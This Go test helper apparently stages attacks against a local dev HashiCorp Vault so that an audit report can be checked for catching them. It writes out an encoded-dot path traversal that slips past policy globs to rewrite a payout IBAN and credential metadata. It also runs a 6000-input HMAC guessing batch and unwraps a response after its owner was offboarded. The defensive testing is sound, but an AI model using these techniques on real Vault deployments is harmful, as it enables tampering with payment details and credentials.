package vaulttest

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"strings"
	"time"

	"github.com/sellervault/sellervault/internal/audit"
	"github.com/sellervault/sellervault/internal/devvault"
)

// The attack session plays, with raw HTTP as a member with curl would,
// what the audit report must see: traversal writes past the policies, a
// flood of Transit HMACs, and wrapped responses unwrapped after their
// wrapper was offboarded. It runs on a core of its own, set up by hand
// (no sellervault code), so that it depends on Vault alone.
const attackPrefix = "acme"

// attackSession is what the attack session leaves behind.
type attackSession struct {
	logFile      string
	people       []audit.Person
	offboardedAt time.Time // tom's
	hmacInputs   int       // olga's batch
	payoutPath   string    // olga's traversal, as sent
	credsPath    string    // the reminder job's traversal, as sent
}

var attackShared struct {
	s   *attackSession
	err error
}

// vaultHTTP is a client of one Vault's HTTP API that sends paths as
// they are written, %2e and all.
type vaultHTTP struct {
	addr string
}

type vaultResponse struct {
	status int
	body   map[string]any
}

func (r vaultResponse) data() map[string]any {
	d, _ := r.body["data"].(map[string]any)
	return d
}

func (r vaultResponse) auth() map[string]any {
	d, _ := r.body["auth"].(map[string]any)
	return d
}

func (r vaultResponse) wrapToken() string {
	w, _ := r.body["wrap_info"].(map[string]any)
	s, _ := w["token"].(string)
	return s
}

func (v vaultHTTP) do(token, method, path string, body any, header ...string) vaultResponse {
	var in io.Reader
	if body != nil {
		b, err := json.Marshal(body)
		if err != nil {
			panic(err)
		}
		in = bytes.NewReader(b)
	}
	req, err := http.NewRequest(method, v.addr+"/v1/"+path, in)
	if err != nil {
		panic(err)
	}
	if token != "" {
		req.Header.Set("X-Vault-Token", token)
	}
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		panic(err)
	}
	defer resp.Body.Close()
	out := vaultResponse{status: resp.StatusCode}
	b, _ := io.ReadAll(resp.Body)
	if len(b) > 0 {
		_ = json.Unmarshal(b, &out.body)
	}
	return out
}

// ok panics unless Vault answered 200 or 204.
func (v vaultHTTP) ok(token, method, path string, body any, header ...string) vaultResponse {
	r := v.do(token, method, path, body, header...)
	if r.status != 200 && r.status != 204 {
		panic(fmt.Sprintf("%s %s: %d %v", method, path, r.status, r.body["errors"]))
	}
	return r
}

// attackPolicies: a manager; operations staff of one store each, olga
// still holding a grant of the layout before PREFIX-reminders/ (a glob
// under _meta/reminders/); and the reminder job's AppRole, also of that
// layout. Every "*" here is a door to the whole mount (invariant 2).
var attackPolicies = map[string]string{
	"acme-manager": `
path "acme/*" { capabilities = ["create", "read", "update", "patch", "delete", "list"] }
path "acme-reminders/*" { capabilities = ["create", "read", "update", "list"] }
path "acme-transit/hmac/acme-redact" { capabilities = ["update"] }
path "sys/wrapping/wrap" { capabilities = ["update"] }`,
	"acme-ops-us": `
path "acme/data/stores/acme-us/creds/+" { capabilities = ["read"] }
path "acme-transit/hmac/acme-redact" { capabilities = ["update"] }
path "acme/data/_meta/reminders/*" { capabilities = ["create", "update"] }`,
	"acme-ops-de": `
path "acme/data/stores/acme-de/creds/+" { capabilities = ["read"] }`,
	"acme-reminder": `
path "acme/metadata/*" { capabilities = ["read", "list"] }
path "acme/metadata/_meta/reminders/*" { capabilities = ["create", "update"] }
path "acme-reminders/metadata/+/+" { capabilities = ["create", "update", "read"] }`,
}

func attackScript(srv *devvault.Server, logFile string) (s *attackSession, err error) {
	defer func() {
		if r := recover(); r != nil {
			err = fmt.Errorf("attack session: %v", r)
		}
	}()
	v := vaultHTTP{addr: srv.URL}
	root := srv.RootToken
	v.ok(root, "PUT", "sys/audit/file", map[string]any{"type": "file", "options": map[string]any{"file_path": logFile}})
	v.ok(root, "POST", "sys/mounts/acme", map[string]any{"type": "kv", "options": map[string]any{"version": "2"}})
	v.ok(root, "POST", "sys/mounts/acme-reminders", map[string]any{"type": "kv", "options": map[string]any{"version": "2"}})
	v.ok(root, "POST", "sys/mounts/acme-transit", map[string]any{"type": "transit"})
	v.ok(root, "POST", "acme-transit/keys/acme-redact", map[string]any{})
	v.ok(root, "POST", "sys/auth/userpass", map[string]any{"type": "userpass"})
	v.ok(root, "POST", "sys/auth/approle", map[string]any{"type": "approle"})
	for name, policy := range attackPolicies {
		v.ok(root, "PUT", "sys/policies/acl/"+name, map[string]any{"policy": policy})
	}
	v.ok(root, "POST", "acme/data/stores/acme-us/payout", map[string]any{"data": map[string]any{"iban": "DE89370400440532013000"}})
	v.ok(root, "POST", "acme/data/stores/acme-us/creds/seller-central", map[string]any{"data": map[string]any{"password": "pw-us"}})
	v.ok(root, "POST", "acme/data/stores/acme-de/creds/seller-central", map[string]any{"data": map[string]any{"password": "pw-de"}})

	type member struct{ token, entity string }
	login := func(name, policy string) member {
		v.ok(root, "POST", "auth/userpass/users/"+name, map[string]any{"password": name + "-password-1234", "token_policies": policy})
		a := v.ok("", "POST", "auth/userpass/login/"+name, map[string]any{"password": name + "-password-1234"}).auth()
		return member{token: a["client_token"].(string), entity: a["entity_id"].(string)}
	}
	maria := login("maria", "acme-manager")
	olga := login("olga", "acme-ops-us")
	tom := login("tom", "acme-ops-de")
	v.ok(root, "POST", "auth/approle/role/acme-reminder", map[string]any{"token_policies": "acme-reminder"})
	roleID := v.ok(root, "GET", "auth/approle/role/acme-reminder/role-id", nil).data()["role_id"].(string)
	secretID := v.ok(root, "POST", "auth/approle/role/acme-reminder/secret-id", nil).data()["secret_id"].(string)
	reminder := v.ok("", "POST", "auth/approle/login", map[string]any{"role_id": roleID, "secret_id": secretID}).auth()["client_token"].(string)

	s = &attackSession{logFile: logFile}

	// olga, from her grant under _meta/reminders/, writes the payout
	// record: %2e%2e passes the policy, the KV engine cleans it away.
	s.payoutPath = "acme/data/_meta/reminders/%2e%2e/%2e%2e/stores/acme-us/payout"
	v.ok(olga.token, "POST", s.payoutPath, map[string]any{"data": map[string]any{"iban": "GB33BUKB20201555555555"}})
	if meta := v.ok(root, "GET", "acme/metadata/stores/acme-us/payout", nil).data(); fmt.Sprint(meta["current_version"]) != "2" {
		return nil, fmt.Errorf("the traversal did not reach the payout record: %v", meta)
	}
	// The reminder job changes a credential's rotation facts the same way.
	s.credsPath = "acme/metadata/_meta/reminders/.%2e/%2E./stores/acme-us/creds/seller-central"
	v.ok(reminder, "POST", s.credsPath, map[string]any{"custom_metadata": map[string]any{"rotated_at": "2020-01-01T00:00:00Z"}})
	cm, _ := v.ok(root, "GET", "acme/metadata/stores/acme-us/creds/seller-central", nil).data()["custom_metadata"].(map[string]any)
	if cm["rotated_at"] != "2020-01-01T00:00:00Z" {
		return nil, fmt.Errorf("the traversal did not reach the credential's metadata: %v", cm)
	}
	// Its own note, where it belongs: nothing to report.
	v.ok(reminder, "POST", "acme-reminders/metadata/email/olga", map[string]any{"custom_metadata": map[string]any{"sent_at": "x"}})

	// olga guesses values against the redaction key: one batch.
	s.hmacInputs = 6000
	batch := make([]map[string]any, s.hmacInputs)
	for i := range batch {
		batch[i] = map[string]any{"input": base64.StdEncoding.EncodeToString([]byte(fmt.Sprintf("guess-%06d", i)))}
	}
	out := v.ok(olga.token, "POST", "acme-transit/hmac/acme-redact", map[string]any{"batch_input": batch})
	if results, _ := out.data()["batch_results"].([]any); len(results) != s.hmacInputs {
		return nil, fmt.Errorf("the batch gave %d results", len(results))
	}
	v.ok(maria.token, "POST", "acme-transit/hmac/acme-redact", map[string]any{"input": base64.StdEncoding.EncodeToString([]byte("one"))})

	// tom wraps a read of his store's login; maria wraps a first login
	// by hand (as onboarding does), which olga unwraps with her token.
	tomsWrap := v.ok(tom.token, "GET", "acme/data/stores/acme-de/creds/seller-central", nil, "X-Vault-Wrap-TTL", "10m").wrapToken()
	mariasWrap := v.ok(maria.token, "POST", "sys/wrapping/wrap", map[string]any{"username": "new", "password": "first-1234"},
		"X-Vault-Wrap-TTL", "10m").wrapToken()
	if tomsWrap == "" || mariasWrap == "" {
		return nil, fmt.Errorf("no wrapping tokens")
	}
	v.ok(olga.token, "POST", "sys/wrapping/unwrap", map[string]any{"token": mariasWrap})

	// tom is offboarded: his identity is disabled, his token stops.
	time.Sleep(10 * time.Millisecond)
	s.offboardedAt = time.Now()
	time.Sleep(10 * time.Millisecond)
	v.ok(root, "POST", "identity/entity/id/"+tom.entity, map[string]any{"disabled": true})
	if r := v.do(tom.token, "GET", "acme/data/stores/acme-de/creds/seller-central", nil); r.status != 403 {
		return nil, fmt.Errorf("tom read after offboarding: %d", r.status)
	}
	// His wrapped response does not stop: whoever holds the token
	// unwraps it with the token itself, once; a second try fails.
	opened := v.ok(tomsWrap, "POST", "sys/wrapping/unwrap", nil)
	if inner, _ := opened.data()["data"].(map[string]any); inner["password"] != "pw-de" {
		return nil, fmt.Errorf("unwrap after offboarding: %v", opened.body)
	}
	if r := v.do(tomsWrap, "POST", "sys/wrapping/unwrap", nil); r.status != 400 {
		return nil, fmt.Errorf("a second unwrap: %d", r.status)
	}

	s.people = []audit.Person{
		{Name: "maria", EntityID: maria.entity, Role: audit.RoleManager},
		{Name: "olga", EntityID: olga.entity, Role: audit.RoleOps, Stores: []string{"acme-us"}},
		{Name: "tom", EntityID: tom.entity, Role: audit.RoleOps, Stores: []string{"acme-de"}, Offboarded: true,
			OffboardedAt: s.offboardedAt, Disabled: true},
	}
	snapshot := strings.TrimSuffix(logFile, ".log") + "-session.log"
	data, err := os.ReadFile(logFile)
	if err != nil {
		return nil, err
	}
	if err := os.WriteFile(snapshot, data, 0o600); err != nil {
		return nil, err
	}
	s.logFile = snapshot
	return s, nil
}

// startAttacks runs the attack session on a core of its own; stop closes it.
func startAttacks(dir string) (stop func()) {
	srv, err := devvault.Start(context.Background(), devvault.Config{})
	if err != nil {
		attackShared.err = err
		return func() {}
	}
	attackShared.s, attackShared.err = attackScript(srv, dir+"/attack.log")
	return func() { _ = srv.Close() }
}
